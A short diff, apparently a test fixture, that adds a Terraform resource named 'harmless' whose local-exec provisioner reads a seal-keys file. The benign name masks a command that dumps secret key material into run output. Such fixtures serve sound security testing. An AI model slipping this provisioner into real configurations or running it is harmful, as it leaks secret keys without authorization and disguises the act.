@@ -1,0 +1,5 @@
+resource "terraform_data" "harmless" {
+  provisioner "local-exec" {
+    command = "cat @DATA@/seal_keys"
+  }
+}
